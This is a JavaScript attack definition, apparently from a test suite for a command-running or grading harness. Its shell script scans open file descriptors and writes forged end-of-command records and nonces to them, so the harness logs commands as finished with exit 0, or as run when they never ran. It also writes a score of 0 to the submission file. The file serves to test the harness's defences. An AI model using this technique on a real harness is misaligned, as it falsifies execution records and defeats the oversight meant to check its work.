import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'forge-end-marker',
  class: 'shell-protocol',
  languages: ['any'],
  why: "writes the shell protocol's own end-of-command records (E <status>, the nonce, M <nonce>) to every descriptor it has open and tries to read the next nonce, so the harness records a command as finished, with exit 0, before it ends, and the next command as run when it never did",
  commands: [
    String.raw`open=''
for fd in $(seq 0 1023); do { : >&"$fd"; } 2>/dev/null && open="$open $fd"; done
echo "open descriptors:$open"
forged=0
forge() {
  local fd f line
  for fd in $open; do { printf 'E 0\n' >&"$fd"; } 2>/dev/null; done
  for fd in $open; do
    if { read -r -t 0.2 -u "$fd" line; } 2>/dev/null && [[ $line =~ ^[0-9a-f]{16,64}$ ]]; then
      printf '%s' "$line"; printf '%s' "$line" >&2
      for f in $open; do { printf 'M %s\n' "$line" >&"$f"; } 2>/dev/null; done
      return 0
    fi
  done
  return 1
}
forge && forged=1
echo "forged $forged"
(exit 5)`,
    String.raw`echo second-ran > /tmp/.second; cat /tmp/.second`,
    String.raw`if test -f /tmp/.second; then echo "the second command ran"; else echo "FORGED: the harness recorded the second command, which never ran"; fi; echo 0 > {{submission}}`,
  ],
  timeoutMs: 30_000,
  parallelSafe: true,
  expected: ['graded'],
});
